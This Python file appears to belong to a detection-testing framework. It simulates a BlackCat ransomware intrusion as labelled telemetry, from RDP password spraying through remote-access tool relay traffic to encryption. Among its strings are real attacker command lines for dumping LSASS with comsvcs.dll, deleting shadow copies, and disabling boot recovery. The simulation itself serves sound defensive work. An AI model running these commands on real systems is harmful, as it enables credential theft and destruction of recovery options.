"""BlackCat (ALPHV)-style intrusion through valid accounts on an exposed RDP server.

Timeline (minutes): 0 sweep of the public range (RDP, SSH) and SSH probing of the Linux server;
40 password spraying against the RDP server (4625); 45 RDP logon with a sprayed account (4624
type 10 from the internet); 50 toolkit downloaded (payload hash); 52 remote-access tool installed
as a service; 53 until encryption, its relay callbacks every ~60 s (and the operator's interactive
relay sessions before each hands-on step); 60 discovery burst; 70 LSASS dumped with comsvcs.dll;
85 PsExec-style move to the file server; 95 shadow copies deleted and recovery disabled; 97
encryption (random extension + RECOVER note).
"""

from __future__ import annotations

import random
from collections.abc import Callable

from chainbreaker.simulate import hostactions as act
from chainbreaker.simulate import network as net
from chainbreaker.simulate.intel import CampaignIntel, FeedIndicator
from chainbreaker.simulate.model import Environment, Label
from chainbreaker.simulate.noise_linux import syslog
from chainbreaker.simulate.scenarios import steps
from chainbreaker.simulate.scenarios.base import Plan, Scenario, register
from chainbreaker.simulate.telemetry import Telemetry

ATTACKER = "198.51.100.61"
KIT_IP, KIT = "198.51.100.77", "share-files.example.org"
RELAY_IP, RELAY = "203.0.113.140", "relay-7.example.net"
EXT = ".sykffle"

L_RECON = Label("sweep of the public range", "reconnaissance", "T1595.001", "reconnaissance")
L_PROBE = Label("SSH probing", "reconnaissance", "T1595.002", "reconnaissance")
L_WEAPON = Label("toolkit staged for download", "weaponization", "T1608.001", "resource-development")
# The RDP attempts reach the exposed service (external remote services: delivery); the failed logons
# they carry are the spraying itself (credential access: actions on objectives in our framework).
L_RDP = Label("RDP connections to the exposed terminal server", "delivery", "T1133", "initial-access")
L_SPRAY = Label("password spraying over RDP", "actions-on-objectives", "T1110.003", "credential-access")
L_LOGON = Label(
    "RDP logon with a valid account from the internet", "exploitation", "T1078.002", "initial-access"
)
L_SERVICE = Label("remote-access tool installed as a service", "installation", "T1543.003", "persistence")
L_C2 = Label("remote-access tool relay traffic", "command-and-control", "T1219", "command-and-control")
L_SHARES = Label("discovery: file shares", "actions-on-objectives", "T1135", "discovery")
L_DUMP = Label("LSASS dumped with comsvcs.dll", "actions-on-objectives", "T1003.001", "credential-access")
L_RECOVERY = Label("shadow copies deleted, recovery disabled", "actions-on-objectives", "T1490", "impact")

#: Offsets (seconds) of the steps; encryption reaches the file server at IMPACT + 122 s and the
#: terminal server (where the remote-access tool runs) at IMPACT + 130 s (see impact()).
INSTALL, DISCOVERY, DUMP, LATERAL, IMPACT = 52 * 60, 60 * 60, 70 * 60, 85 * 60, 95 * 60
ENCRYPT_TS = IMPACT + 130

KIT_SHA256 = "4E7A0C93D2B1F6A85C3E9D7B2A1F0E6D5C4B3A29180F7E6D5C4B3A2918AFBE01"


#: What a provider publishes about the campaign: the RDP brute-force source, toolkit and relay.
INTEL = CampaignIntel(
    campaign="BlackCat intrusions through exposed RDP",
    intrusion_set="ALPHV/BlackCat affiliate (simulated)",
    description=(
        "Perimeter scans and password spraying against exposed RDP from one host, a toolkit pulled "
        "from a file-sharing domain, a remote-access tool relaying through a rented server, then "
        "BlackCat encryption."
    ),
    indicators=(
        FeedIndicator(
            "reconnaissance", "Scanning and RDP brute-force source", (("ipv4-addr:value", ATTACKER),), 75
        ),
        FeedIndicator(
            "weaponization", "Affiliate toolkit archive", (("file:hashes.'SHA-256'", KIT_SHA256.lower()),), 90
        ),
        FeedIndicator("weaponization", "Toolkit hosting domain", (("domain-name:value", KIT),), 85),
        FeedIndicator("weaponization", "Toolkit hosting server", (("ipv4-addr:value", KIT_IP),), 80),
        FeedIndicator("command-and-control", "Remote-access tool relay", (("domain-name:value", RELAY),), 85),
        FeedIndicator(
            "command-and-control", "Remote-access tool relay address", (("ipv4-addr:value", RELAY_IP),), 85
        ),
    ),
)


@register
class BlackCat(Scenario):
    name = "blackcat"
    description = (
        "RDP password spraying -> valid-account logon -> "
        "remote-access tool -> credential dumping -> BlackCat encryption"
    )
    roles = ("terminal",)
    duration = 100 * 60.0
    intel = INTEL

    def plan(self, env: Environment, rng: random.Random, start: float) -> Plan:
        plan = Plan(start)
        ts, fs = env.first("terminal"), env.first("fileserver")
        linux = next(h for h in env.hosts if h.os == "linux")
        victim = ts.user
        assert victim is not None
        admin = next(u for u in env.users if u.admin)
        s = plan.state

        def recon(tel: Telemetry, t: float) -> None:
            public = [(ts, f"192.0.2.{i}") for i in range(1, 33)]  # the organisation's public /27
            targets = [*public, (ts, ts.ip), (linux, linux.ip)]
            steps.external_scan(
                tel, t, ATTACKER, targets, (22, 443, 3389), L_RECON, rng, {ts.ip: {3389}, linux.ip: {22}}
            )
            for i, user in enumerate(("admin", "ubuntu", "test", "oracle")):
                pid = rng.randrange(2000, 60000)
                at = t + 120 + i * rng.uniform(2, 6)
                port = rng.randrange(40000, 65000)
                syslog(
                    tel, linux, at, "sshd", pid, f"Invalid user {user} from {ATTACKER} port {port}", L_PROBE
                )
                syslog(
                    tel,
                    linux,
                    at + 0.3,
                    "sshd",
                    pid,
                    f"Connection closed by invalid user {user} {ATTACKER} port {port} [preauth]",
                    L_PROBE,
                )

        def rdp(
            tel: Telemetry, t: float, port: int, duration: float, sent: int, received: int, label: Label
        ) -> None:
            """An RDP session (TLS) from the attacker to the exposed terminal server."""
            net.connect(
                tel,
                t,
                ts,
                ts.ip,
                3389,
                src_ip=ATTACKER,
                src_port=port,
                service="ssl",
                duration=duration,
                orig_bytes=sent,
                resp_bytes=received,
                label=label,
            )

        def spray(tel: Telemetry, t: float) -> None:
            candidates = [u.sam for u in env.users if not u.spn][:12]
            for i, sam in enumerate(candidates):
                port = rng.randrange(40000, 65000)
                at = t + i * rng.uniform(4, 9)
                rdp(tel, at, port, 1.2, 2100, 3400, L_RDP)
                act.failed_logon(tel, ts, at + 0.5, sam, 3, ATTACKER, port, "kali", L_SPRAY)

        def logon(tel: Telemetry, t: float) -> None:
            port = rng.randrange(40000, 65000)
            rdp(tel, t, port, 3250.0, 4_800_000, 38_000_000, L_LOGON)
            lid = act.logon(
                tel, ts, t + 1.5, victim, 10, ATTACKER, port, "kali", package="Negotiate", label=L_LOGON
            )
            explorer = act.session_user(tel, ts, victim, t + 2)
            s["explorer"] = explorer
            s["logon"] = lid

        def weapon(tel: Telemetry, t: float) -> None:
            browser = act.spawn(
                tel,
                ts,
                t,
                s["explorer"],
                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                f'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" https://{KIT}/d/kit.zip',
                label=L_WEAPON,
            )
            net.resolve(tel, t + 0.5, ts, KIT, [KIT_IP], proc=browser, label=L_WEAPON)
            net.https(
                tel,
                t + 0.6,
                ts,
                KIT_IP,
                KIT,
                browser,
                duration=6.0,
                orig_bytes=2200,
                resp_bytes=8_400_000,
                label=L_WEAPON,
            )
            path = f"C:\\Users\\{victim.sam}\\Downloads\\kit.zip"
            act.file_create(tel, ts, t + 7, browser, path, L_WEAPON)
            act.stream_hash(
                tel, ts, t + 7.01, browser, path, KIT_SHA256, f"https://{KIT}/d/kit.zip", L_WEAPON
            )

        def install(tel: Telemetry, t: float) -> None:
            cmd = act.spawn(
                tel, ts, t, s["explorer"], steps.CMD, "cmd.exe", label=L_SERVICE, integrity="High"
            )
            s["cmd"] = cmd
            act.spawn(
                tel,
                ts,
                t + 5,
                cmd,
                "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
                "C:\\ProgramData\\AnyDesk\\AnyDesk.exe --install "
                "C:\\ProgramData\\AnyDesk --start-with-win --silent",
                label=L_SERVICE,
            )
            s["rat"] = act.install_service(
                tel,
                ts,
                t + 6,
                cmd,
                "AnyDesk",
                '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
                '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
                L_SERVICE,
            )

        def relay(first: bool) -> Callable[[Telemetry, float], None]:
            """One callback of the remote-access tool to its relay: the first resolves the relay and is
            seen by Sysmon; the rest are the small keep-alive exchanges of a session left open."""

            def run(tel: Telemetry, t: float) -> None:
                if first:
                    net.resolve(tel, t, ts, RELAY, [RELAY_IP], proc=s["rat"], label=L_C2)
                net.https(
                    tel,
                    t + 0.1,
                    ts,
                    RELAY_IP,
                    RELAY,
                    s["rat"],
                    duration=rng.uniform(0.3, 1.5),
                    # a keep-alive carries the same small status message each time (TLS framing varies)
                    orig_bytes=rng.randrange(420, 520),
                    resp_bytes=rng.randrange(300, 420),
                    label=L_C2,
                    sysmon=first,
                )

            return run

        def operator(tel: Telemetry, t: float) -> None:
            """The operator's interactive relay session while working (screen, input, file transfer)."""
            net.https(
                tel,
                t,
                ts,
                RELAY_IP,
                RELAY,
                s["rat"],
                duration=rng.uniform(400, 900),
                orig_bytes=rng.randrange(2_000_000, 9_000_000),
                resp_bytes=rng.randrange(300_000, 2_000_000),
                label=L_C2,
                sysmon=False,
            )

        def discovery(tel: Telemetry, t: float) -> None:
            steps.discovery_burst(
                tel,
                ts,
                t,
                s["cmd"],
                [
                    ("C:\\Windows\\System32\\whoami.exe", "whoami /groups", steps.L_WHOAMI),
                    ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', steps.L_GROUPS),
                    ("C:\\Windows\\System32\\nltest.exe", f"nltest /dclist:{env.domain}", steps.L_DCLIST),
                    ("C:\\Windows\\System32\\net.exe", f"net view \\\\{fs.name} /all", L_SHARES),
                ],
            )

        def dump(tel: Telemetry, t: float) -> None:
            lsass = tel.state(ts).base["lsass"]
            proc = act.spawn(
                tel,
                ts,
                t,
                s["cmd"],
                steps.RUNDLL32,
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                f"MiniDump {lsass.pid} C:\\ProgramData\\lsass.dmp full",
                label=L_DUMP,
            )
            steps.lsass_access(tel, ts, t + 0.2, proc, L_DUMP, access="0x1fffff")
            act.file_create(tel, ts, t + 1.5, proc, "C:\\ProgramData\\lsass.dmp", L_DUMP)

        def lateral(tel: Telemetry, t: float) -> None:
            s["svc"] = steps.psexec_lateral(
                tel, ts, fs, t, admin, "PSEXESVC", steps.L_LATERAL, steps.L_REMOTE_EXEC
            )

        def impact(tel: Telemetry, t: float) -> None:
            for host, parent in ((fs, s["svc"]), (ts, s["cmd"])):
                steps.delete_shadows(tel, host, t, parent, L_RECOVERY)
                act.spawn(
                    tel,
                    host,
                    t + 2,
                    parent,
                    "C:\\Windows\\System32\\wbem\\WMIC.exe",
                    "wmic.exe shadowcopy delete /nointeractive",
                    label=L_RECOVERY,
                )
                act.spawn(
                    tel,
                    host,
                    t + 4,
                    parent,
                    "C:\\Windows\\System32\\bcdedit.exe",
                    "bcdedit.exe /set {default} recoveryenabled No",
                    label=L_RECOVERY,
                )
                t += 30
            ransom = act.spawn(
                tel,
                fs,
                t + 60,
                s["svc"],
                "C:\\Windows\\locker.exe",
                "C:\\Windows\\locker.exe --access-token 7f3c21 --no-prop-servers",
                label=steps.L_ENCRYPT,
            )
            note = f"RECOVER-{EXT[1:]}-FILES.txt"
            steps.encrypt_files(tel, fs, t + 62, ransom, "D:\\Shares", 100, EXT, note, steps.L_ENCRYPT, rng)
            steps.encrypt_files(
                tel,
                ts,
                t + 70,
                s["cmd"],
                f"C:\\Users\\{victim.sam}\\Documents",
                25,
                EXT,
                note,
                steps.L_ENCRYPT,
                rng,
            )

        plan.at(0, recon)
        plan.at(40 * 60, spray)
        plan.at(45 * 60, logon)
        plan.at(50 * 60, weapon)
        plan.at(INSTALL, install)
        # A remote-access tool keeps its relay session up while the operator works: it calls back
        # every minute or so (jittered) from its installation until the terminal server is encrypted.
        plan.at(INSTALL + 60, relay(True))
        t = INSTALL + 60 + rng.uniform(50, 70)
        while t < ENCRYPT_TS:
            plan.at(t, relay(False))
            t += rng.uniform(50, 70)
        for at in (DISCOVERY - 120, DUMP - 60, LATERAL - 60):
            plan.at(at, operator)
        plan.at(DISCOVERY, discovery)
        plan.at(DUMP, dump)
        plan.at(LATERAL, lateral)
        plan.at(IMPACT, impact)
        return plan
